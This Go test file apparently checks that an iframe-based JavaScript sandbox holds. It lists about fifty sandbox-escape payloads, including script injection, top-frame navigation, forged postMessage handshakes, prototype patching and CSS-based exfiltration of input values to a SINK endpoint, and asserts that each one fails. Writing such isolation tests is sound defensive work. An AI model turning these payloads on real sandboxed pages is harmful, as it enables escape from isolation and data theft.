package iframe

import (
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/bailey-go/bailey/internal/jsx"
	"github.com/bailey-go/bailey/internal/testpage"
	"github.com/bailey-go/bailey/protocol"
)

// Attacks of code with a document. An attack succeeds if its result is "ESCAPED", or if a
// request reaches SINK. Attacks that only look up names are tested in the leak lab.
var domAttacks = []struct{ name, code string }{
	{"fetch of a fresh frame", `const f = document.createElement("iframe"); document.body.append(f); return f.contentWindow.fetch ? "ESCAPED" : 0`},
	{"eval of a fresh frame", `const f = document.createElement("iframe"); document.body.append(f); return f.contentWindow.eval("1") ? "ESCAPED" : 0`},
	{"fetch of a srcdoc frame", `const f = document.createElement("iframe"); f.srcdoc = "<script>fetch('" + SINK + "/srcdoc')<\/script>"; document.body.append(f); await sleep(300); return 0`},
	{"sandbox attribute of its own", `const f = document.createElement("iframe"); f.setAttribute("sandbox", "allow-scripts allow-same-origin allow-top-navigation"); f.srcdoc = "<script>top.location = '" + SINK + "/top'<\/script>"; document.body.append(f); await sleep(300); return 0`},
	{"inline script element", `const s = document.createElement("script"); s.textContent = "document.title = 'ran'"; document.head.append(s); return document.title === "ran" ? "ESCAPED" : 0`},
	{"script from an address", `const s = document.createElement("script"); s.src = SINK + "/s.js"; document.head.append(s); await sleep(200); return 0`},
	{"script from data", `const s = document.createElement("script"); s.src = "data:text/javascript,document.title='ran'"; document.head.append(s); await sleep(200); return document.title === "ran" ? "ESCAPED" : 0`},
	{"import", `try { await import(SINK + "/m.js"); return "ESCAPED" } catch (e) { return 0 }`},
	{"import of data", `try { await import("data:text/javascript,export default 1"); return "ESCAPED" } catch (e) { return 0 }`},
	{"event handler attribute", `document.body.innerHTML = "<img src=x onerror=\"document.title='ran'\">"; await sleep(100); return document.title === "ran" ? "ESCAPED" : 0`},
	{"javascript address", `document.body.innerHTML = "<a href=\"javascript:document.title='ran'\">x</a>"; document.querySelector("a").click(); await sleep(100); return document.title === "ran" ? "ESCAPED" : 0`},
	{"image", `new Image().src = SINK + "/i.png"; await sleep(200); return 0`},
	{"srcset", `document.body.innerHTML = "<img srcset=\"" + SINK + "/a.png 1x\"><picture><source srcset=\"" + SINK + "/b.png\"><img></picture>"; await sleep(200); return 0`},
	{"style addresses", `document.body.innerHTML = "<p style=\"background:url(" + SINK + "/bg)\">x</p><style>@import url(" + SINK + "/i.css); @font-face { font-family: f; src: url(" + SINK + "/f) } p { font-family: f }</style>"; await sleep(200); return 0`},
	{"constructed style", `const s = new CSSStyleSheet(); s.replaceSync("p{background:url(" + SINK + "/cs)}"); document.adoptedStyleSheets = [s]; document.body.innerHTML = "<p>x"; await sleep(200); return 0`},
	{"link elements", `for (const rel of ["stylesheet", "preload", "prefetch", "modulepreload", "manifest", "icon"]) { const l = document.createElement("link"); l.rel = rel; l.as = "image"; l.href = SINK + "/" + rel; document.head.append(l) } await sleep(300); return 0`},
	{"media", `document.body.innerHTML = "<video src=\"" + SINK + "/v\" poster=\"" + SINK + "/p\"></video><audio src=\"" + SINK + "/a\"></audio><embed src=\"" + SINK + "/e\"><object data=\"" + SINK + "/o\"></object>"; await sleep(300); return 0`},
	{"svg", `document.body.innerHTML = "<svg><image href=\"" + SINK + "/im\"/><use href=\"" + SINK + "/u#x\"/><script href=\"" + SINK + "/sc\"></script><feImage href=\"" + SINK + "/fe\"/></svg>"; await sleep(200); return 0`},
	{"form", `document.body.innerHTML = "<form action=\"" + SINK + "/f\"><input name=a value=b></form>"; document.forms[0].submit(); await sleep(200); return 0`},
	{"ping", `document.body.innerHTML = "<a href=\"#x\" ping=\"" + SINK + "/ping\">x</a>"; document.querySelector("a").click(); await sleep(200); return 0`},
	{"click on a link", `document.body.innerHTML = "<a target=_top href=\"" + SINK + "/l\">x</a><a target=_blank href=\"" + SINK + "/b\">x</a>"; for (const a of document.links) a.click(); await sleep(300); return 0`},
	{"navigation of the top", `try { top.location.href = SINK + "/top" } catch (e) {} await sleep(200); return 0`},
	{"navigation of the frame around", `try { parent.location.href = SINK + "/parent" } catch (e) {} await sleep(200); return 0`},
	{"navigation of itself", `location.href = SINK + "/self"; await sleep(300); return 0`},
	{"meta refresh", `document.head.insertAdjacentHTML("beforeend", "<meta http-equiv=refresh content=\"0;url=" + SINK + "/refresh\">"); await sleep(300); return 0`},
	{"base", `document.head.insertAdjacentHTML("beforeend", "<base href=\"" + SINK + "/\">"); new Image().src = "base.png"; await sleep(200); return 0`},
	{"meta policy of its own", `document.head.insertAdjacentHTML("beforeend", "<meta http-equiv=Content-Security-Policy content=\"default-src *\">"); new Image().src = SINK + "/after"; await sleep(200); return 0`},
	{"report of a violation", `document.head.insertAdjacentHTML("beforeend", "<meta http-equiv=Content-Security-Policy content=\"img-src 'none'; report-uri " + SINK + "/report\">"); new Image().src = "x:y"; await sleep(200); return 0`},
	{"page's document", `return top.document ? "ESCAPED" : 0`},
	{"frame around", `return parent.document ? "ESCAPED" : 0`},
	{"frame element", `return window.frameElement ? "ESCAPED" : 0`},
	{"cookies", `return document.cookie === undefined ? 0 : "ESCAPED"`},
	{"storage of a fresh document", `const d = document.implementation.createHTMLDocument(); return d.defaultView ? "ESCAPED" : 0`},
	{"view of a document", `return document.defaultView.fetch || document.defaultView.localStorage ? "ESCAPED" : 0`},
	{"constructor of a window", `return window.constructor.prototype.fetch || Object.getPrototypeOf(window).fetch ? "ESCAPED" : 0`},
	{"popup", `return document.open("about:blank", "x", "") ? "ESCAPED" : 0`},
	{"document.write", `document.write("<script>document.title='ran'<\/script>"); return document.title === "ran" ? "ESCAPED" : 0`},
	{"port of the runtime", `return window.baileyPort || Object.getOwnPropertyNames(window).find((n) => /bailey/i.test(n)) ? "ESCAPED" : 0`},
	{"program of the runtime", `return [...document.scripts].some((s) => s.src) ? "ESCAPED" : 0`},
	{"forged hello", `parent.postMessage("bailey-enclave", "*"); parent.parent.postMessage("bailey-enclave", "*", [new MessageChannel().port2]); top.postMessage("bailey-domain", "*", [new MessageChannel().port2]); await sleep(100); return 0`},
	{"forged program", `parent.postMessage({word: "show", program: new Blob(["1"])}, "*", [new MessageChannel().port2]); window.dispatchEvent(new MessageEvent("message", {data: {program: new Blob(["document.title='ran'"])}, source: parent, ports: [new MessageChannel().port1]})); await sleep(100); return document.title === "ran" ? "ESCAPED" : 0`},
	{"patched ports", `const said = []; MessagePort.prototype.postMessage = function (m) { said.push(m) }; await callTool("echo", {}); return said.length ? "ESCAPED" : 0`},
	{"patched events", `let seen = 0; Object.defineProperty(MessageEvent.prototype, "data", {get() { seen++; return "" }}); try { await callTool("echo", {}) } catch (e) {} return seen ? "ESCAPED" : 0`},
	{"patched listeners", `let seen = 0; EventTarget.prototype.addEventListener = function () { seen++ }; MessagePort.prototype.addEventListener = EventTarget.prototype.addEventListener; await callTool("echo", {}); return seen ? "ESCAPED" : 0`},
	{"pollution", `Object.prototype.polluted = 1; return ({}).polluted ? "ESCAPED" : 0`},
	{"worker", `return new (document.defaultView.Worker)(URL.createObjectURL(new Blob([""]))) ? "ESCAPED" : 0`},
	{"peer connection of a fresh frame", `const f = document.createElement("iframe"); f.srcdoc = "x"; document.body.append(f); await sleep(100); return f.contentWindow.RTCPeerConnection ? "ESCAPED" : 0`},
	{"full screen", `await document.documentElement.requestFullscreen(); return "ESCAPED"`},
	{"clipboard", `document.body.innerHTML = "<input value=x>"; document.querySelector("input").select(); return document.execCommand("paste") ? "ESCAPED" : 0`},
	{"css exfiltration", `document.body.innerHTML = "<input value=secret><style>input[value^=s]{background:url(" + SINK + "/s)}</style>"; await sleep(200); return 0`},
	{"custom element", `customElements.define("x-y", class extends HTMLElement { connectedCallback() { new Image().src = SINK + "/ce" } }); document.body.append(document.createElement("x-y")); await sleep(200); return 0`},
	{"shadow root", `const h = document.createElement("div"); document.body.append(h); h.attachShadow({mode: "open"}).innerHTML = "<img src=\"" + SINK + "/sh\">"; await sleep(200); return 0`},
}

// No attack of a document makes a request or ends the enclave. In Chromium, without a
// Connection-Allowlist, a navigation that its parent's policy forbids still opens a connection.
// With the header no connection is made.
func TestDOMAttacks(t *testing.T) {
	t.Run("any page", func(t *testing.T) { domBattle(t, false) })
	t.Run("page with a Connection-Allowlist", func(t *testing.T) {
		if testpage.Has(testpage.NoConnectionAllowlist) {
			t.Skipf("%s has no Connection-Allowlist", testpage.Engine())
		}
		testpage.Run(t, testpage.Page{Header: map[string]string{"Connection-Allowlist": "(response-origin)"}}, func(t *testing.T) { domBattle(t, true) })
	})
}

func domBattle(t *testing.T, closed bool) {
	// Most of the time of an attack is waiting, so several enclaves work at once, each with its
	// own sink.
	const lanes = 5
	work, tried := make(chan struct{ name, code string }, len(domAttacks)), 0
	for i, a := range domAttacks {
		if testing.Short() && (i%2 == 0) == closed {
			continue // half of them in each page: make attack and make soak try all in both
		}
		work <- a
		tried++
	}
	close(work)
	var mu sync.Mutex
	var connections []string
	var sinks []*testpage.Endpoint
	var wg sync.WaitGroup
	for range lanes {
		sink := testpage.Sink(t)
		sinks = append(sinks, sink)
		e := domEnclave(t, DOMEnclaveOptions{EnclaveOptions: EnclaveOptions{Tools: toolset(t, echo("echo")), Limits: protocol.Limits{Time: time.Minute}}})
		wg.Go(func() {
			for a := range work {
				// Only attacks without an end take so long. The last run may, on a busy machine.
				res, err := e.Run(testContext(t), a.code, RunOptions{Context: map[string]any{"SINK": sink.URL}, Limits: protocol.Limits{Time: 1500 * time.Millisecond}})
				if res == nil {
					t.Errorf("%s: %v", a.name, err)
					return
				}
				if res.Value == "ESCAPED" {
					t.Errorf("%s: ESCAPED", a.name)
				}
				got := sink.Quiet(0)
				if len(got.Requests) != 0 || got.Datagrams != 0 || closed && got.Total() != 0 {
					t.Errorf("%s: reached the sink: %+v", a.name, got)
				}
				if got.Total() != 0 {
					mu.Lock()
					connections = append(connections, a.name)
					mu.Unlock()
					sink.Reset()
				}
			}
			res, err := e.Run(testContext(t), `return document.body.localName`, RunOptions{})
			if err != nil || res.Value != "body" {
				t.Errorf("after the attacks: %v", err)
			}
		})
	}
	wg.Wait()
	if len(work) > 0 {
		t.Errorf("%d attacks were not tried", len(work))
	}
	here := lookup(t, "location.href")
	during := time.Second // all sinks have the same second
	for _, sink := range sinks {
		if got := sink.Quiet(during); len(got.Requests) != 0 || got.Datagrams != 0 || closed && got.Total() != 0 {
			t.Errorf("something reached the sink: %+v", got)
		}
		during = 0
		if !strings.HasPrefix(here, "http://") || strings.HasPrefix(here, sink.URL) {
			t.Errorf("the page is at %s", here)
		}
	}
	t.Logf("%d attacks, 0 may succeed; opened a connection and sent nothing on it: %q", tried, connections)
}

func lookup(t *testing.T, path string) string {
	t.Helper()
	v := must(jsx.Lookup(jsx.Global(), path))(t)
	return must(jsx.String(v, 4096))(t)
}
